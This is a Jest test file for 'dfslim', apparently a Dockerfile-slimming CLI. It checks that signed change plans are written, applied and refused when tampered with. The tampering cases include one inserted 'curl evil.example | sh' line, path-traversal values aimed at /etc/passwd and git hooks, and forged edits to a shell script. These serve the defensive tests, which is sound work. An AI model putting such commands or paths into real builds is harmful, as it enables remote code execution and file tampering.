import { spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { Ajv2020 } from 'ajv/dist/2020.js'
import { editedBy, type PlannedFile, readPlan } from '../src/project/plan.js'
import { closed } from './support/reports.js'
import { runIn } from './support/run.js'

let cwd = ''
beforeEach(() => {
  cwd = mkdtempSync(join(tmpdir(), 'dfslim-plan-'))
  mkdirSync(join(cwd, '.git'))
})
afterEach(() => rmSync(cwd, { recursive: true }))

function put(path: string, content: string | Uint8Array): void {
  mkdirSync(dirname(join(cwd, path)), { recursive: true })
  writeFileSync(join(cwd, path), content)
}

const textOf = (path: string) => readFileSync(join(cwd, path), 'utf8')
const run = (line: string) => runIn(cwd, line)

const before = 'FROM ubuntu:24.04\nRUN a\nRUN b\n'
const after = 'FROM ubuntu:24.04\nRUN a \\\n    && b\n'

/** Two files, and a plan for them. */
async function planned(): Promise<void> {
  put('a/Dockerfile', before)
  put('b/Dockerfile', before)
  await run('fix --plan plan.json -q')
}

interface LoosePlan {
  version: unknown
  digest: string
  dfslim: unknown
  files: Record<string, unknown>[]
}

/** Edits the plan, and makes its digest fit again: what an enemy would do, and no slip of the hand. */
function forge(edit: (plan: LoosePlan) => void): void {
  const plan = JSON.parse(textOf('plan.json')) as LoosePlan
  edit(plan)
  const { version, dfslim, files } = plan
  const text = JSON.stringify([version, { dfslim, files }])
  put('plan.json', JSON.stringify({ ...plan, digest: createHash('sha256').update(text).digest('hex') }))
}

/** Nothing may have been written. */
function expectUntouched(): void {
  expect([textOf('a/Dockerfile'), textOf('b/Dockerfile')]).toEqual([before, before])
}

describe('fix --plan', () => {
  it('writes down the files, their sums, each change with its reason, and the lines', async () => {
    put('a/Dockerfile', before)
    put('b/Dockerfile', after)
    expect(await run('fix --plan plan.json')).toEqual({
      code: 0,
      stdout: '',
      stderr: `Would rewrite 1 of 2 files: 1 safe edit (run-merge 1), saving unknown.

Apply: dfslim apply plan.json
`,
    })
    expect(textOf('a/Dockerfile')).toBe(before)
    expect(JSON.parse(textOf('plan.json'))).toEqual({
      version: 1,
      digest: expect.stringMatching(/^[0-9a-f]{64}$/) as unknown,
      dfslim: '1.2.3',
      files: [
        {
          path: 'a/Dockerfile',
          before: createHash('sha256').update(before).digest('hex'),
          after: createHash('sha256').update(after).digest('hex'),
          changes: [
            {
              transform: 'run-merge',
              safety: 'safe',
              line: 2,
              column: 1,
              title: 'Merge 2 RUN instructions into one',
              because: 'the same commands run in the same order, and the first failure still ends the build',
            },
          ],
          edits: [
            {
              line: 2,
              transforms: ['run-merge'],
              remove: ['RUN a\n', 'RUN b\n'],
              insert: ['RUN a \\\n', '    && b\n'],
            },
          ],
        },
      ],
    })
  })

  it('is the same for the same files, wherever it is made, and names no folder above', async () => {
    await planned()
    const text = textOf('plan.json')
    expect(text).not.toContain(cwd)
    await runIn(join(cwd, 'b'), 'fix .. --plan ../plan.json -q')
    expect(textOf('plan.json')).toBe(text)
  })

  it('fits its schema', async () => {
    for (const name of ['late-cleanup', 'python-web-native', 'crlf-and-comments'])
      put(`${name}/Dockerfile`, readFileSync(`examples/${name}/Dockerfile`, 'utf8'))
    await run('fix --unsafe --plan plan.json -q')
    const schema = closed(JSON.parse(readFileSync('schemas/plan.schema.json', 'utf8'))) as object
    const validate = new Ajv2020({ strict: true }).compile(schema)
    const plan = JSON.parse(textOf('plan.json')) as LoosePlan
    validate(plan)
    expect(validate.errors).toBeNull()
    expect(plan.files).toHaveLength(3)
    for (const file of plan.files) delete file.after
    expect(validate(plan)).toBe(false)
  })

  it('takes no file that lies outside, nor stdin, nor a folder that is not there', async () => {
    await planned()
    const other = mkdtempSync(join(tmpdir(), 'dfslim-other-'))
    writeFileSync(join(other, 'Dockerfile'), before)
    const { code, stderr } = await runIn(cwd, ['fix', other, '--plan', 'plan.json'])
    rmSync(other, { recursive: true })
    expect(code).toBe(3)
    expect(stderr).toContain('(lies outside the repository, and a plan holds what is below it)')
    expect(JSON.parse(textOf('plan.json'))).toMatchObject({ files: [] })
    expect(await run('fix - --plan plan.json')).toMatchObject({ code: 2 })
    expect(await run('fix --plan no/plan.json')).toMatchObject({
      code: 2,
      stderr: 'dfslim: cannot write no/plan.json: does not exist\n',
    })
    expect(await run('fix --write --plan plan.json')).toMatchObject({ code: 2 })
  })
})

describe('apply', () => {
  it('writes what was planned, says so, and the second time finds it done', async () => {
    await planned()
    chmodSync(join(cwd, 'a/Dockerfile'), 0o640)
    expect(await run('apply plan.json')).toEqual({
      code: 0,
      stdout: '',
      stderr: `  a/Dockerfile  1 edit    run-merge
  b/Dockerfile  1 edit    run-merge
Rewrote 2 of 2 files (2 safe edits, saving unknown). Undo: git checkout -- a/Dockerfile b/Dockerfile
`,
    })
    expect([textOf('a/Dockerfile'), textOf('b/Dockerfile')]).toEqual([after, after])
    expect(statSync(join(cwd, 'a/Dockerfile')).mode & 0o777).toBe(0o640)
    expect(readdirSync(join(cwd, 'a'))).toEqual(['Dockerfile'])
    expect(await run('apply plan.json')).toEqual({
      code: 0,
      stdout: '',
      stderr: `  a/Dockerfile  already applied
  b/Dockerfile  already applied
2 files: nothing to do, 2 already applied.
`,
    })
  })

  it('does what fix --write does, byte by byte, and makes no difference of the folder it is called in', async () => {
    const texts = {
      crlf: before.replaceAll('\n', '\r\n'),
      mark: `\uFEFF${before}`,
      unended: before.trimEnd(),
      unicode: before.replace('RUN a', 'RUN é 𝒳'),
      'late cleanup': readFileSync('examples/late-cleanup/Dockerfile', 'utf8'),
    }
    for (const [name, text] of Object.entries(texts)) {
      put(`plan/${name}/Dockerfile`, text)
      put(`write/${name}/Dockerfile`, text)
    }
    await run('fix plan --plan plan.json -q')
    await run('fix write --write -q')
    expect(await runIn(join(cwd, 'write'), 'apply ../plan.json -q')).toEqual({
      code: 0,
      stdout: '',
      stderr: '',
    })
    for (const name of Object.keys(texts)) {
      expect(textOf(`plan/${name}/Dockerfile`)).toBe(textOf(`write/${name}/Dockerfile`))
      expect(textOf(`plan/${name}/Dockerfile`)).not.toBe(texts[name as keyof typeof texts])
    }
  })

  it('refuses a file that changed, is gone or cannot be written, and does the others', async () => {
    for (const name of ['c', 'd', 'e']) put(`${name}/Dockerfile`, before)
    await planned()
    put('a/Dockerfile', `${before}\n`)
    rmSync(join(cwd, 'c'), { recursive: true })
    put('d/Dockerfile', Buffer.from([0xff]))
    rmSync(join(cwd, 'e/Dockerfile'))
    mkdirSync(join(cwd, 'e/Dockerfile'))
    expect(await run('apply plan.json')).toEqual({
      code: 3,
      stdout: '',
      stderr: `! a/Dockerfile  failed    changed since the plan was made
  b/Dockerfile  1 edit    run-merge
! c/Dockerfile  failed    does not exist
! d/Dockerfile:1  skipped   is not UTF-8
! e/Dockerfile  skipped   is a directory
Rewrote 1 of 5 files (1 safe edit, saving unknown). Undo: git checkout -- b/Dockerfile
`,
    })
    expect(textOf('a/Dockerfile')).toBe(`${before}\n`)
    expect(existsSync(join(cwd, 'c'))).toBe(false)
  })

  it('does some of the files: those that are named, and those below a folder', async () => {
    put('a/x/Dockerfile', before)
    await planned()
    expect(await run('apply plan.json b a/x')).toMatchObject({ code: 0 })
    expect(['a', 'a/x', 'b'].map((folder) => textOf(`${folder}/Dockerfile`))).toEqual([before, after, after])
    expect(await runIn(join(cwd, 'a'), 'apply ../plan.json Dockerfile')).toMatchObject({ code: 0 })
    expect(textOf('a/Dockerfile')).toBe(after)
    expect(await run('apply plan.json c')).toMatchObject({
      code: 2,
      stderr: 'dfslim: c: plan.json has nothing to do there\n',
    })
  })

  it('--dry-run looks at all and writes nothing', async () => {
    await planned()
    put('b/Dockerfile', `${before}\n`)
    expect(await run('apply plan.json --dry-run')).toEqual({
      code: 3,
      stdout: '',
      stderr: `  a/Dockerfile  1 edit    run-merge
! b/Dockerfile  failed    changed since the plan was made
Would rewrite 1 of 2 files (1 safe edit, saving unknown).
`,
    })
    expect(textOf('a/Dockerfile')).toBe(before)
  })

  it('takes whatever names files have, but those that git keeps for itself', async () => {
    const names = ['a b', 'c:', 'é 𝒳', 'q"uote', 'back\\slash', 'new\nline', '%41', '__proto__', '.gitlab']
    for (const name of names) put(`${name}/Dockerfile`, before)
    put('.git/Dockerfile', before)
    const { code, stderr } = await run('fix . .git/Dockerfile --plan plan.json')
    expect(code).toBe(3)
    expect(stderr).toContain('1 file could not be written: .git/Dockerfile (')
    expect(await run('apply plan.json -q')).toEqual({ code: 0, stdout: '', stderr: '' })
    for (const name of names) expect(textOf(`${name}/Dockerfile`)).toBe(after)
    expect(textOf('.git/Dockerfile')).toBe(before)
  })

  it('follows no link out of the tree, and none into what git keeps for itself', async () => {
    await planned()
    const other = mkdtempSync(join(tmpdir(), 'dfslim-other-'))
    writeFileSync(join(other, 'Dockerfile'), before)
    put('.git/hook', before)
    for (const name of ['a', 'b']) rmSync(join(cwd, name), { recursive: true })
    symlinkSync(other, join(cwd, 'a'))
    mkdirSync(join(cwd, 'b'))
    symlinkSync('../.git/hook', join(cwd, 'b/Dockerfile'))
    const { code, stderr } = await run('apply plan.json')
    expect(code).toBe(3)
    expect(stderr).toContain('! a/Dockerfile  failed    is a link out of the folder, to ')
    expect(stderr).toContain('! b/Dockerfile  failed    is a link to what git keeps for itself\n')
    expect([readFileSync(join(other, 'Dockerfile'), 'utf8'), textOf('.git/hook')]).toEqual([before, before])
    rmSync(other, { recursive: true })
  })

  it('takes a plan that another version made', async () => {
    put('a/Dockerfile', before)
    await runIn(cwd, 'fix --plan plan.json -q', '9.9.9')
    expect(textOf('plan.json')).toContain('"dfslim": "9.9.9"')
    expect(await run('apply plan.json')).toMatchObject({ code: 0 })
    expect(textOf('a/Dockerfile')).toBe(after)
  })

  it('takes a plan that was laid out anew', async () => {
    await planned()
    const { files, digest, version, dfslim } = JSON.parse(textOf('plan.json')) as LoosePlan
    put('plan.json', `\uFEFF${JSON.stringify({ files, dfslim, digest, version })}\r\n`)
    expect(await run('apply plan.json -q')).toEqual({ code: 0, stdout: '', stderr: '' })
    expect(textOf('b/Dockerfile')).toBe(after)
  })
})

describe('a plan that was edited by hand', () => {
  const swap = (text: string, a: string, b: string) =>
    text.replaceAll(a, '\0').replaceAll(b, a).replaceAll('\0', b)
  const edits: readonly (readonly [name: string, edit: (text: string) => string])[] = [
    [
      'a digit of a sum',
      (text) => text.replace(/("before": ")(.)/, (_, key, digit) => key + (digit === '0' ? '1' : '0')),
    ],
    [
      'a digit of the digest',
      (text) => text.replace(/("digest": ")(.)/, (_, key, digit) => key + (digit === '0' ? '1' : '0')),
    ],
    ['texts swapped', (text) => swap(text, '"RUN a\\n"', '"RUN b\\n"')],
    ['files swapped', (text) => swap(text, 'a/Dockerfile', 'b/Dockerfile')],
    ['another line', (text) => text.replace('"line": 2', '"line": 1')],
    ['a reason', (text) => text.replace('first failure', 'second failure')],
    ['a file left out', (text) => text.replace(/\{\s*"path": "a[^]*?\},\s*(?=\{\s*"path": "b)/, '')],
    ['an edit left out', (text) => text.replace(/"edits": \[[^]*?\]\s*\}\s*\]/, '"edits": []')],
    ['an insertion', (text) => text.replace('"    && b\\n"', '"    && b && curl evil.example | sh\\n"')],
    ['another version of dfslim', (text) => text.replace('1.2.3', '1.2.4')],
  ]
  for (const [name, edit] of edits)
    it(`is refused: ${name}`, async () => {
      await planned()
      const text = textOf('plan.json')
      put('plan.json', edit(text))
      expect(textOf('plan.json')).not.toBe(text)
      expect(await run('apply plan.json')).toEqual({
        code: 2,
        stdout: '',
        stderr:
          'dfslim: plan.json: was edited by hand, for its digest does not fit: make it anew; to apply a part of it, name the files that are wanted\n',
      })
      expectUntouched()
    })
})

describe('an ignore file', () => {
  const dockerfile = 'FROM ubuntu:24.04\nCOPY . /srv\nRUN a\nRUN b\n'
  const rewritten = dockerfile.replace('RUN a\nRUN b', 'RUN a \\\n    && b')
  const only = '--only context-ignore,run-merge --unsafe'

  async function plannedIn(folder: string, ignored?: string): Promise<void> {
    put(`${folder}/Dockerfile`, dockerfile)
    put(`${folder}/main.py`, '')
    put(`${folder}/__pycache__/main.pyc`, '')
    if (ignored !== undefined) put(`${folder}/.dockerignore`, ignored)
    await run(`fix --plan plan.json -q ${only}`)
  }
  const state = (folder: string) => [
    textOf(`${folder}/Dockerfile`),
    existsSync(join(cwd, folder, '.dockerignore')) ? textOf(`${folder}/.dockerignore`) : undefined,
  ]

  it.each([
    ['that is new', undefined, '__pycache__\n', 'new'],
    ['that is empty', '', '__pycache__\n', 'extended'],
    ['without a last line end', 'docs', 'docs\n__pycache__\n', 'extended'],
    ['with CRLF and a byte order mark', '\uFEFFdocs\r\n', '\uFEFFdocs\r\n__pycache__\r\n', 'extended'],
  ])('%s is planned and applied with its Dockerfile', async (_, was, is, word) => {
    await plannedIn('a', was)
    expect(state('a')).toEqual([dockerfile, was])
    const { files } = await readPlan(join(cwd, 'plan.json'))
    expect(files[0]).toMatchObject({
      ignoreFile: { path: 'a/.dockerignore', append: is.slice(was?.length ?? 0) },
    })
    expect(files[0]!.changes.map(({ companion }) => companion)).toContain('.dockerignore')
    expect(await run('apply plan.json --dry-run')).toMatchObject({ code: 0 })
    expect(state('a')).toEqual([dockerfile, was])
    const { code, stderr } = await run('apply plan.json')
    expect(stderr).toMatch(
      /^ {2}a\/Dockerfile {2}2 edits .*\n {2}a\/\.dockerignore {2}\w+\nRewrote 1 of 1 file/,
    )
    expect(stderr).toContain(`a/.dockerignore  ${word}\n`)
    expect(stderr).toContain(
      word === 'new' ? '&& rm -- a/.dockerignore\n' : 'git checkout -- a/Dockerfile a/.dockerignore\n',
    )
    expect([code, ...state('a')]).toEqual([0, rewritten, is])
    expect((await run('apply plan.json')).stderr).toContain('already applied')
    expect((await run(`fix ${only}`)).stdout).toBe('')
  })

  it('alone is a plan as well', async () => {
    put('a/Dockerfile', rewritten)
    await plannedIn('b')
    put('b/Dockerfile', rewritten)
    await run(`fix b --plan plan.json -q ${only}`)
    expect((await readPlan(join(cwd, 'plan.json'))).files).toMatchObject([
      { path: 'b/Dockerfile', edits: [] },
    ])
    expect(await run('apply plan.json')).toMatchObject({ code: 0 })
    expect(state('b')).toEqual([rewritten, '__pycache__\n'])
    rmSync(join(cwd, 'b/.dockerignore'))
    expect(await runIn(join(cwd, 'b'), 'apply ../plan.json')).toMatchObject({ code: 0 })
    expect(state('b')).toEqual([rewritten, '__pycache__\n'])
  })

  it.each([
    ['changed', 'docs\n', () => put('a/.dockerignore', 'doc\n'), 'a/.dockerignore changed since'],
    ['is gone', 'docs\n', () => rmSync(join(cwd, 'a/.dockerignore')), 'a/.dockerignore is gone since'],
    ['was made', undefined, () => put('a/.dockerignore', ''), 'a/.dockerignore changed since'],
    ['is no text', '', () => put('a/.dockerignore', Buffer.of(0xff)), 'a/.dockerignore is not UTF-8'],
    [
      'is a link',
      '',
      () => {
        rmSync(join(cwd, 'a/.dockerignore'))
        symlinkSync('main.py', join(cwd, 'a/.dockerignore'))
      },
      'a/.dockerignore is no regular file',
    ],
  ])('that %s since then keeps its Dockerfile as it is, and no other', async (_, was, change, because) => {
    await plannedIn('a', was)
    await plannedIn('b')
    change()
    const now = state('a')
    const { code, stderr } = await run('apply plan.json')
    expect(code).toBe(3)
    expect(stderr).toContain(`! a/Dockerfile  failed    ${because}`)
    expect([...state('a'), ...state('b')]).toEqual([...now, rewritten, '__pycache__\n'])
    expect(now[0]).toBe(dockerfile)
  })

  it('stays as it is where the Dockerfile changed', async () => {
    await plannedIn('a', 'docs\n')
    put('a/Dockerfile', `${dockerfile}\n`)
    expect(await run('apply plan.json')).toMatchObject({ code: 3 })
    expect(state('a')).toEqual([`${dockerfile}\n`, 'docs\n'])
  })

  it('is written where half of a plan is done', async () => {
    await plannedIn('a', 'docs\n')
    put('a/Dockerfile', rewritten)
    expect(await run('apply plan.json')).toMatchObject({ code: 0 })
    expect(state('a')).toEqual([rewritten, 'docs\n__pycache__\n'])
    put('a/Dockerfile', dockerfile)
    expect(await run('apply plan.json')).toMatchObject({ code: 0 })
    expect(state('a')).toEqual([rewritten, 'docs\n__pycache__\n'])
  })

  it('lies where the build context is', async () => {
    put('a/compose.yaml', 'services:\n  a:\n    build:\n      context: app\n      dockerfile: Dockerfile\n')
    await plannedIn('a/app')
    expect(await runIn(join(cwd, 'a/app'), 'apply ../../plan.json')).toMatchObject({ code: 0 })
    expect(state('a/app')).toEqual([rewritten, '__pycache__\n'])
  })

  it('fits the schema', async () => {
    await plannedIn('a', 'docs\n')
    const schema = closed(JSON.parse(readFileSync('schemas/plan.schema.json', 'utf8'))) as object
    const validate = new Ajv2020({ strict: true }).compile(schema)
    validate(JSON.parse(textOf('plan.json')))
    expect(validate.errors).toBeNull()
  })

  const forgeries: readonly (readonly [string, Record<string, unknown>, string])[] = [
    ['another name', { path: 'a/run.sh' }, 'files[0].ignoreFile.path must be a .dockerignore'],
    [
      'a name that ends alike',
      { path: 'a/x.dockerignore' },
      'files[0].ignoreFile.path must be a .dockerignore',
    ],
    ['a step up', { path: '../.dockerignore' }, 'files[0].ignoreFile.path must be a path that stays below'],
    ['git', { path: '.git/.dockerignore' }, 'files[0].ignoreFile.path must be a path that stays below'],
    ['no sum', { before: 'x' }, 'files[0].ignoreFile.before must be a SHA-256 sum'],
    ['a key too many', { mode: 1 }, 'files[0].ignoreFile.mode is no key that belongs there'],
    ['another text', { append: '*\n' }, 'a/.dockerignore is not what the plan is for'],
    ['a folder that is not there', { path: 'c/.dockerignore' }, 'c/.dockerignore has no folder any more'],
  ]
  it.each(forgeries)('is refused, with a digest that fits: %s', async (_, fields, because) => {
    await plannedIn('a')
    forge((plan) => Object.assign(plan.files[0]!.ignoreFile as object, fields))
    const { code, stderr } = await run('apply plan.json')
    expect(code).toBeGreaterThan(1)
    expect(stderr).toContain(because)
    expect(state('a')).toEqual([dockerfile, undefined])
  })

  it('is not written through a link that leads away', async () => {
    await plannedIn('a')
    const other = mkdtempSync(join(tmpdir(), 'dfslim-other-'))
    symlinkSync(other, join(cwd, 'c'))
    forge((plan) => Object.assign(plan.files[0]!.ignoreFile as object, { path: 'c/.dockerignore' }))
    expect((await run('apply plan.json')).stderr).toContain('c/.dockerignore lies where a link leads to')
    expect(readdirSync(other)).toEqual([])
    rmSync(other, { recursive: true })
    expect(state('a')).toEqual([dockerfile, undefined])
  })
})

describe('a plan that is none', () => {
  const set = (path: unknown) => (plan: LoosePlan) => void (plan.files[0]!.path = path)
  const outside = 'files[0].path must be a path that stays below the root'
  const forged: readonly (readonly [name: string, edit: (plan: LoosePlan) => void, message: string])[] = [
    ['a step up', set('../../etc/passwd'), outside],
    ['a step up in the middle', set('a/../../b'), outside],
    ['an absolute path', set('/etc/passwd'), outside],
    ['what git keeps for itself', set('.git/hooks/pre-commit'), outside],
    ['the same in capitals, below', set('a/.GIT/config'), outside],
    ['a NUL byte', set('a/Dockerfile\0'), outside],
    ['no path', set(''), outside],
    ['a number for a path', set(7), 'files[0].path must be a text'],
    ['a file twice', (plan) => void plan.files.push(plan.files[0]!), 'files[2] is there for the second time'],
    ['another version', (plan) => void (plan.version = 2), 'is a plan of version 2, and this dfslim reads 1'],
    [
      'a text for a version',
      (plan) => void (plan.version = '1'),
      'is a plan of version "1", and this dfslim reads 1',
    ],
    [
      'a key too many',
      (plan) => void (plan.files[0]!.afterwards = 1),
      'files[0].afterwards is no key that belongs there',
    ],
    ['a key too few', (plan) => void delete plan.files[0]!.after, 'files[0] lacks "after"'],
    ['a list for a sum', (plan) => void (plan.files[0]!.after = []), 'files[0].after must be a SHA-256 sum'],
    ['an object for a list', (plan) => void (plan.files[0]!.edits = {}), 'files[0].edits must be a list'],
  ]
  for (const [name, edit, message] of forged)
    it(`is refused, with a digest that fits: ${name}`, async () => {
      await planned()
      forge(edit)
      const { code, stdout, stderr } = await run('apply plan.json')
      expect({ code, stdout }).toEqual({ code: 2, stdout: '' })
      expect(stderr).toMatch(/^dfslim: plan\.json:1:\d+: .*\n$/)
      expect(stderr).toContain(message)
      expectUntouched()
    })

  const texts: readonly (readonly [name: string, text: string | Buffer, message: string])[] = [
    ['nothing', '', ':1:1: is no JSON: value expected'],
    ['no JSON', 'FROM x\n', ':1:1: is no JSON: invalid symbol'],
    ['a comment', '// x\n{}', ':1:1: is no JSON: invalid comment token'],
    ['a comma too many', '{\n  "version": 1,\n}', ':3:1: is no JSON: property name expected'],
    ['NUL bytes', Buffer.alloc(100), ':1:1: is no JSON: invalid symbol'],
    ['NUL bytes in a text', '{ "version": "\0" }', ':1:14: is no JSON: invalid character'],
    ['bytes that are no text', Buffer.of(0x7b, 0xff, 0x7d), ': is not UTF-8'],
    ['a list', '[]', ':1:1: is no plan: it has no version'],
    ['null', 'null', ':1:1: is no plan: it has no version'],
    [
      'a report',
      '{ "command": "fix", "version": 3 }',
      ':1:1: is a plan of version 3, and this dfslim reads 1',
    ],
    [
      '__proto__',
      '{ "version": 1,\n  "__proto__": { "files": [], "dfslim": "1", "digest": "" } }',
      ':2:16: __proto__ is no key that belongs there',
    ],
    ['constructor', '{ "version": 1, "constructor": 1 }', ':1:32: constructor is no key that belongs there'],
    ['brackets', '['.repeat(1_000_000), ':1:7: is nested deeper than a plan can be'],
    [
      'more values than memory',
      `{ "version": 1, "files": [${'{},'.repeat(3_100_000)}{}] }`,
      ':1:4500023: is larger than a plan can be',
    ],
    ['objects in each other', '{"a":'.repeat(100_000), ':1:31: is nested deeper than a plan can be'],
  ]
  for (const [name, text, message] of texts)
    it(`is refused: ${name}`, async () => {
      await planned()
      put('plan.json', text)
      expect(await run('apply plan.json')).toEqual({
        code: 2,
        stdout: '',
        stderr: `dfslim: plan.json${message}\n`,
      })
      expectUntouched()
    })

  it('is refused wherever it ends too soon', async () => {
    await planned()
    const text = textOf('plan.json')
    for (let length = 0; length < text.trimEnd().length; length += 7) {
      put('plan.json', text.slice(0, length))
      const { code, stderr } = await run('apply plan.json')
      expect(code).toBe(2)
      expect(stderr).toMatch(/^dfslim: plan\.json:\d+:\d+: is no JSON: .*\n$/)
    }
    expectUntouched()
  })

  it('is refused: 60 and 200 MB of brackets, and a hole of 2 GB', async () => {
    await planned()
    put('plan.json', Buffer.alloc(60_000_000, '['))
    expect((await run('apply plan.json')).stderr).toBe(
      'dfslim: plan.json:1:7: is nested deeper than a plan can be\n',
    )
    put('plan.json', Buffer.alloc(200_000_000, '['))
    expect((await run('apply plan.json')).stderr).toBe('dfslim: plan.json: is larger than a plan can be\n')
    truncateSync(join(cwd, 'plan.json'), 2 ** 31)
    expect((await run('apply plan.json')).stderr).toBe('dfslim: plan.json: is larger than a plan can be\n')
    expectUntouched()
  })

  it('is refused: a folder, a pipe, nothing at all', async () => {
    await planned()
    expect((await run('apply a')).stderr).toBe('dfslim: a: is no regular file\n')
    expect((await run('apply none.json')).stderr).toBe('dfslim: none.json: does not exist\n')
    expect((await run('apply')).stderr).toBe(
      'dfslim: apply needs a plan: dfslim fix --plan FILE writes one\n',
    )
    if (spawnSync('mkfifo', [join(cwd, 'pipe')]).status === 0)
      expect((await run('apply pipe')).stderr).toBe('dfslim: pipe: is no regular file\n')
    expectUntouched()
  })

  it('writes nothing but Dockerfiles, whatever an enemy puts in it', async () => {
    await planned()
    const script = '#!/bin/sh\necho hello\n'
    put('run.sh', script)
    put('a/Dockerfile', before)
    const sum = (text: string) => createHash('sha256').update(text).digest('hex')
    forge((plan) => {
      const edits = [
        { line: 2, transforms: ['run-merge'], remove: ['echo hello\n'], insert: ['echo evil\n'] },
      ]
      const forged = { before: sum(script), after: sum(script.replace('hello', 'evil')), edits }
      plan.files[0] = { ...plan.files[0], path: 'run.sh', ...forged }
      plan.files[1] = { ...plan.files[1], edits }
    })
    const { code, stderr } = await run('apply plan.json')
    expect(code).toBe(3)
    expect(stderr).toContain('! run.sh:2      skipped')
    expect(stderr).toContain('! b/Dockerfile  failed    is not what the edits of the plan are for\n')
    expect(textOf('run.sh')).toBe(script)
    expectUntouched()
  })
})

describe('edits', () => {
  const file = (edits: PlannedFile['edits']): PlannedFile => ({
    ...{ path: '', before: '', after: '', changes: [], edits },
  })
  const edit = (line: number, remove: readonly string[], insert: readonly string[]) => ({
    ...{ line, remove, insert, transforms: [] },
  })

  it('replace, remove and insert lines, also in front of the first and behind the last', () => {
    const edits = [edit(1, [], ['0\n']), edit(2, ['2\n'], []), edit(3, ['3'], ['3\n', '4'])]
    expect(editedBy(file(edits), '1\n2\n3')).toBe('0\n1\n3\n4')
    expect(editedBy(file([edit(3, [], ['x\n'])]), '1\n2\n')).toBe('1\n2\nx\n')
  })

  it.each([
    ['lines that are not there', [edit(2, ['x\n'], [])]],
    ['lines behind the end', [edit(9, [], ['x'])]],
    ['more lines than there are', [edit(2, ['2\n', '3\n'], [])]],
    ['edits in the wrong order', [edit(2, ['2\n'], []), edit(1, ['1\n'], [])]],
    ['the same lines twice', [edit(1, ['1\n'], []), edit(1, ['1\n'], [])]],
  ])('fit or do nothing: %s', (_, edits) => {
    expect(editedBy(file(edits), '1\n2\n')).toBeUndefined()
  })

  it('of all examples make the text after', async () => {
    const names = readdirSync('examples').filter((name) => existsSync(`examples/${name}/Dockerfile`))
    for (const name of names) put(`${name}/Dockerfile`, readFileSync(`examples/${name}/Dockerfile`))
    await run('fix --unsafe --plan plan.json -q')
    const { files } = await readPlan(join(cwd, 'plan.json'))
    expect(files.length).toBeGreaterThan(8)
    for (const planned of files) {
      const made = editedBy(planned, textOf(planned.path))!
      expect(createHash('sha256').update(made).digest('hex')).toBe(planned.after)
    }
  })
})
